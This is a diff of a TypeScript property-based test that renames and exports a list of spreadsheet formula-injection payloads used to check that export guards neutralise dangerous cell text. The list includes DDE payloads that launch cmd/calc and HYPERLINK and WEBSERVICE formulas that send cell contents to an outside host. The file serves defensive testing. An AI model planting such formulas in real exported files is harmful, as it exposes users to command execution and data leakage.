@@ -18,7 +18,8 @@ function listed(): readonly string[] {
 /** Amounts that people write as text and that no guard may touch. */
 export const NEGATIVE_AMOUNTS = ["- 15 250", "-11 000", "-15\u00a0250", "-0,5", "-1.250,00", "- 4 800 000"] as const;
 
-const OWN = [
+/** Texts that were thought out here. */
+export const OWN_PAYLOADS = [
   "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=", "+", "-", "@", "'", "''", "'=1+1", "'Rutine'", "{=1+1}", "=A1=", '=""&A1', "=2+5+cmd|' /C calc'!A0",
   '=HYPERLINK("http://eksempel.no/"&A1,"klikk")', '=WEBSERVICE("http://eksempel.no")', '=IMAGE("http://eksempel.no/x.png")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
   "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u0000=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1+1", "–1", "%1", "|1", ";=1+1", ",=1+1", '"=1+1"',
@@ -29,7 +30,7 @@ const OWN = [
 ];
 
 /** Texts that have made spreadsheets, XML, terminals or links do something: the public list, and one of each kind that our own sinks could fail on. */
-export const PAYLOADS: readonly string[] = [...listed(), ...OWN, ...NEGATIVE_AMOUNTS];
+export const PAYLOADS: readonly string[] = [...listed(), ...OWN_PAYLOADS, ...NEGATIVE_AMOUNTS];
 
 const piece = fc.oneof(
   fc.constantFrom(...PAYLOADS),
